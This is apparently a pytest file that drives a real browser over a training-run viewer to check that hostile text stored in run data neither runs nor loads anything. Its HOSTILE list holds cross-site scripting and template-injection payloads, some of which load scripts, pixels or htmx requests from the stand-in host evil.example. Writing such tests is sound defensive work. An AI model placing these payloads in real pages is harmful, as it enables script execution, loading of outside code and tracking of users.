"""The viewer in a real browser: hostile text, and a page that follows a run."""

import pytest
from browser import browsing, opened
from lakes import PER_PROMPT, write_shown
from processes import EVALUATED, Operated, viewing

from lpfloop.configs.load import load_config

CONFIG = load_config("tiny", None, (), {}).model_dump_json()
PAGES = ("", "/prompts", "/candidates", "/critiques", "/pairs", "/diff")
LOOK = """() => [
    document.body.textContent,
    [
        ...document.querySelectorAll("iframe, object, embed, base, style, svg, math, img, video"),
        ...[...document.querySelectorAll("script")].filter(
            (e) => e.textContent || !/^[/]static[/]/.test(e.getAttribute("src"))),
        ...[...document.querySelectorAll("*")].filter((e) => [...e.attributes].some(
            (a) => /^(on|hx-|style$|srcdoc$)/.test(a.name))),
        ...[...document.querySelectorAll("[href], [action], [data-live]")].filter(
            (e) => !/^([/](?![/])|#)/.test(
                e.getAttribute("href") ?? e.getAttribute("action") ?? e.dataset.live)),
    ].map((e) => e.outerHTML.slice(0, 200)),
    window.ran,
    document.documentElement.scrollWidth > window.innerWidth,
]"""
"""Returns a page's text, elements from hostile text, executed scripts, and if it is too wide."""


RUN = "window.ran=1"
HOSTILE = [
    *(f"{before}<script>{RUN}</script>" for before in ("", "</pre>", "</title>", "</style>")),
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    *(f"<svg {event}={RUN}>" for event in ("onload", "onfocus", "onbegin")),
    f"<details open ontoggle={RUN}>",
    f"<a href='javascript:{RUN}'>go</a>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href='//evil.example/'>",
    "<img src='//evil.example/pixel.png'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "{{ 7 * 7 }}{{ self.__init__.__globals__ }}",
    "<div hx-get=//evil.example hx-trigger=load></div>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "\u202e<script>window.ran=1</script>\u202c",
    "\u200b\u200d\u2066hidden\u2069",
    f"javascript:{RUN}",
    "a" * 5_000,
    "<" * 2_000,
]
"""Texts that would run, load or hide something in a careless page."""


@pytest.fixture(scope="module")
def browser():
    with browsing() as running:
        yield running


def test_no_hostile_text_runs(browser, tmp_path):
    """Every text column of a row contains the hostile texts."""
    write_shown(tmp_path / "lake", "hostile", HOSTILE, CONFIG)
    paths = [f"/runs/hostile{end}" for end in PAGES]
    paths += [f"/runs/hostile/candidates?start={start}" for start in range(25, len(HOSTILE), 25)]
    paths += [f"/runs/hostile/rows/cand-{n:06x}00" for n in range(0, len(HOSTILE), PER_PROMPT)]
    paths += ["/runs/hostile/prompts?text=<script>window.ran=1</script>", "/runs/<script>"]
    shown = ""
    with viewing(tmp_path / "lake") as viewer, opened(browser, own=viewer.own) as (page, said):
        page.goto(viewer.entry)
        for path in paths:
            page.goto(viewer.own + path)
            text, intruders, ran, wide = page.evaluate(LOOK)
            assert (intruders, ran, wide) == ([], None, False), path
            shown += text
        # The browser itself reports in its console that a page does not exist.
        assert [complaint for complaint in said.listed() if "404" not in complaint] == []
    plain = [text for text in HOSTILE if text.isascii() and text.isprintable()]
    assert [text for text in plain if text not in shown] == []
    assert "\\u{202e}" in shown
    assert "\u202e" not in shown


def test_page_follows_a_run(browser, tmp_path):
    run = Operated(tmp_path)
    run.allow(EVALUATED + 1)
    try:
        run.detach()
        with viewing(run.lake) as viewer, opened(browser, own=viewer.own) as (page, complaints):
            page.goto(viewer.entry)
            page.get_by_role("link", name="slow", exact=True).click()
            page.wait_for_url("**/runs/slow")
            page.evaluate("() => window.same = true")
            units = page.locator("tr:has(th:text-is('sample')) td").nth(1)
            units.filter(has_text="1/6").wait_for()
            run.allow(EVALUATED + 3)
            units.filter(has_text="3/6").wait_for()
            assert page.evaluate("() => window.same")
            assert complaints.listed() == []
    finally:
        run.end()
